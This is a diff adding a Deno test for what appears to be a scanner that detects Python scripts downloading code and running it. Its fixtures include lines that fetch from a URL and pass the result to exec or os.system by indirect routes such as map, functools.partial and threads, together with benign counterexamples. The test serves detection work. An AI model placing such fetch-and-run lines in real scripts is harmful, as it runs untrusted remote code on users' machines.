@@ -1209,6 +1209,35 @@ Deno.test("downloaded code run through a namespace's entry or the C library's sy
   );
 });
 
+Deno.test("downloaded code handed with the function that runs it to a call that calls it is run", () => {
+  const runs = downloadRuns;
+  const py = "import functools, threading, os, urllib.request\n" +
+    'src = urllib.request.urlopen("https://get.notes-cloud.net/f").read().decode()\n';
+  const handed = [
+    "list(map(exec, [src]))\n",
+    "functools.partial(exec, src)()\n",
+    "threading.Thread(target=exec, args=(src,)).start()\n",
+    "functools.partial(os.system, src)()\n",
+    'run = os.system\nlist(map(run, ["x", src]))\n',
+    '__import__("os").system(src)\n',
+    'importlib.import_module("os").system(src)\n',
+  ];
+  for (const [i, call] of handed.entries()) {
+    const text = py + call;
+    assert.deepEqual(runs(`scripts/h${i}.py`, text), [text.split("\n").length - 1], call);
+  }
+  // Other functions handed the download, and a runner handed constants only.
+  const benign = [
+    "list(map(print, [src]))\n",
+    "threading.Thread(target=print, args=(src,)).start()\n",
+    'list(map(os.system, ["git status", "ls"]))\nprint(src)\n',
+    "print(sorted([src], key=len))\n",
+  ];
+  for (const [i, call] of benign.entries()) {
+    assert.deepEqual(runs(`scripts/b${i}.py`, py + call), [], call);
+  }
+});
+
 Deno.test("a download handed to a callback and run there is run: promise chains, stream events, response callbacks", () => {
   const runs = downloadRuns;
   const url = '"https://get.notes-cloud.net/a"';
